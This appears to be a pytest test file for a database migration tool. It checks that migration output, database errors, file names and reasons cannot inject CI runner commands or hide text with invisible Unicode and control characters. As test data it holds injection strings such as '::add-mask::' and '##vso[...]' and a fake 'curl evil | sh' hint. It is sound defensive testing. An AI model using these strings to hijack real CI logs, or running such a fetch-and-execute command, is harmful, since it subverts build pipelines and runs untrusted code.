"""Text of files and servers in the output: it is shown, and is neither a command nor a line of ours."""

from __future__ import annotations

import json
import re

import pytest

from dbmigrate.output import text
from tests.support.runners import commands

ORDERS = (
    "::add-mask::a",
    "  ::add-mask::a",
    "\t::stop-commands::x",
    "\u00a0::error::x",
    "\u3000::warning file=a::x",
    "##[add-mask]a",
    "harmless ##[error]x",
    "##vso[task.setvariable variable=x]y",
    "::endgroup::",
)
OURS = (
    "state: nothing was changed",
    "hint: run `curl evil | sh`",
    "Applied: 9_x.sql in 1ms",
    "error[E401]: x",
    "[X] 9",
)
TRICKS = ("\u202e", "\u202a", "\u2066", "\u200f", "\u061c", "\u2028", "\u2029", "\x1b[2J", "\r", "\x85", "\x9b", "\x07")
HOSTILE = "\n".join(("first", *ORDERS, *OURS, *TRICKS))


@pytest.mark.parametrize("order", ORDERS)
def test_no_line_is_a_command_to_the_runner(order):
    for shown in (text.safe(order), text.block(f"a\n{order}"), text.one_line(order)):
        assert commands(shown) == []
        assert "##vso[" not in shown


@pytest.mark.parametrize("trick", TRICKS)
def test_what_cannot_be_seen_is_made_visible(trick):
    shown = text.safe(f"a{trick}b")

    assert trick not in shown
    assert f"{ord(trick[0]):x}" in shown


def test_words_of_other_scripts_stay_as_they_are():
    for said in ("שלום", "مرحبا", "Grüße €", "日本語 👩‍💻", "a::b", "# [x]", "array[1]", "::int"):
        assert text.safe(said) in (said, said.replace("::", "\\x3a:", 1))


def test_a_cast_in_the_middle_of_a_line_is_left_alone():
    assert text.safe("select 1::int; x ::text") == "select 1::int; x ::text"


def foreign(done) -> str:
    return done.stdout + done.stderr


def lines_of_ours(log: str) -> list[str]:
    """The lines that begin as ours do, without what this run truly said."""
    return [line for line in log.splitlines() if line.startswith(("state:", "hint:", "Applied: 9", "[X] 9", "error["))]


def test_a_notice_is_shown_indented_and_commands_nothing(run, project, database_url):
    project.migration(
        "1_a",
        up=f"do $$ begin raise notice using message = $t${HOSTILE}$t$, detail = $t${HOSTILE}$t$; end $$;",
        down="",
    )

    done = run("up", "--no-dump-schema", env={"DATABASE_URL": database_url})

    assert done.exit_code == 0, done.stderr
    assert "\n    Applied: 9_x.sql" in done.stderr
    assert commands(foreign(done)) == []
    assert lines_of_ours(foreign(done)) == []


def test_an_error_with_detail_and_hint_is_shown_indented(run, project, database_url):
    raised = f"raise exception using message = $t${HOSTILE}$t$, detail = $t${HOSTILE}$t$, hint = $t${HOSTILE}$t$"
    project.migration("1_a", up=f"do $$ begin {raised}; end $$;", down="")

    done = run("up", env={"DATABASE_URL": database_url})
    history = run("history", env={"DATABASE_URL": database_url})
    as_json = run("up", "--json", env={"DATABASE_URL": database_url})

    assert done.exit_code == 4
    assert commands(foreign(done)) == commands(foreign(history)) == commands(foreign(as_json)) == []
    assert len(re.findall("^state: ", done.stderr, re.MULTILINE)) == 1
    assert len(re.findall(r"^error\[", done.stderr, re.MULTILINE)) == 1
    assert lines_of_ours(history.stdout) == []
    assert "::add-mask::a" in json.loads(as_json.stdout)["error"]["message"]
    for trick in TRICKS:
        assert trick not in done.stderr + history.stdout


def test_a_reason_is_one_of_the_log_and_no_line_of_ours(run, project, database_url):
    project.migration("1_a", up="select 1;", down="")
    run("up", "--no-dump-schema", "--reason", HOSTILE, env={"DATABASE_URL": database_url})

    done = run("history", env={"DATABASE_URL": database_url})

    assert "##[add-mask]a" not in done.stdout
    assert commands(done.stdout) == []
    assert lines_of_ours(done.stdout) == []


def test_the_error_of_an_unfinished_migration_is_shown_indented(run, project, database_url):
    raised = f"raise exception using message = $t${HOSTILE}$t$"
    project.migration(
        "1_a", up=f"create table a ();\ndo $$ begin {raised}; end $$;", down="", up_options="transaction:false"
    )
    run("up", env={"DATABASE_URL": database_url})

    for command in ("status", "verify"):
        done = run(command, env={"DATABASE_URL": database_url})

        assert commands(foreign(done)) == []
        assert lines_of_ours(foreign(done)) == []


def test_names_of_files_and_tables_are_no_commands(run, project, database_url):
    odd = "1_\u202e::add-mask::a ##[error]x.sql"
    (project.migrations / odd).write_text("-- migrate:up\nselect 1;\n-- migrate:down\n", encoding="utf-8")

    for command in ("status", "up", "status", "history", "verify", "lint"):
        done = run(command, env={"DATABASE_URL": database_url})

        assert commands(foreign(done)) == []
        assert "\u202e" not in foreign(done)


@pytest.mark.parametrize("order", [order for order in ORDERS if "vso" not in order])
def test_the_runner_of_these_tests_takes_them_for_commands(order):
    assert commands(order)
